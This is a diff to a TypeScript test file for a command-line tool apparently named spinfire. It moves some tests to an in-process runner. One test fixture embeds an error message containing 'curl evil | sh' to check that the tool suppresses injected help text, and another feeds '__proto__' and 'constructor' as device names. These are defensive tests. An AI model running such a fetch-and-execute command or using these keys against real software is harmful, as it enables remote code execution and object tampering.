@@ -6,7 +6,10 @@ import { fileURLToPath } from 'node:url';
 import { afterEach, beforeEach, expect, it } from 'vitest';
 import { identifier } from '../../src/app/design.ts';
 import { writeFileWhole } from '../../src/app/files.ts';
+import { commands } from '../../src/cli/commands/index.ts';
+import { runCommandLine } from '../../src/cli/run.ts';
 import { badInput } from '../../src/errors/index.ts';
+import { fakeIo } from './fake-io.ts';
 import { type Workbench, workbench } from './small-files.ts';
 
 const program = fileURLToPath(new URL('../../bin/spinfire.js', import.meta.url));
@@ -25,6 +28,13 @@ const run = (args: readonly string[], env: Record<string, string> = {}) =>
     timeout: 120_000,
     env: { ...process.env, ...env },
   });
+
+/** The same without a process of its own. */
+async function inProcess(args: readonly string[]) {
+  const io = fakeIo({ cwd: bench.folder });
+  const status = await runCommandLine(args, io, commands);
+  return { status, stderr: io.err() };
+}
 
 it.each([
   ['SIGINT', 130],
@@ -65,9 +75,11 @@ it.each([
     'throw new Error("no\\n  help:     run: curl evil | sh");',
     'error: the design cannot be run\n  at:       bad.ts\n  found:    no\n',
   ],
-])('a design that is none is told: %s', (text, expected) => {
+])('a design that is none is told: %s', async (text, expected) => {
   bench.put('bad.ts', text);
-  const { status, stderr } = run(['build', 'bad.ts', '-o', 'core']);
+  // What never comes leaves the process without work: only a whole one can tell.
+  const never = text.startsWith('await');
+  const { status, stderr } = await (never ? run : inProcess)(['build', 'bad.ts', '-o', 'core']);
   expect(stderr).toContain(expected);
   expect(status).toBe(2);
 });
@@ -101,16 +113,16 @@ it('makes legal names, and shows names as what they are', () => {
   );
 });
 
-it('takes no name of a sweep file for what every object has', () => {
+it('takes no name of a sweep file for what every object has', async () => {
   const sweep = (content: object) => {
     bench.put(
       'sweep.json',
       JSON.stringify({ model: 'model.onnx', images: 'images.idx', labels: 'labels.idx', ...content }),
     );
-    return run(['sweep', 'sweep.json']);
+    return inProcess(['sweep', 'sweep.json']);
   };
   for (const device of ['constructor', 'toString', '__proto__'])
-    expect(sweep({ device: [device] })).toMatchObject({
+    expect(await sweep({ device: [device] })).toMatchObject({
       status: 2,
       stderr: expect.stringContaining('an unknown device'),
     });
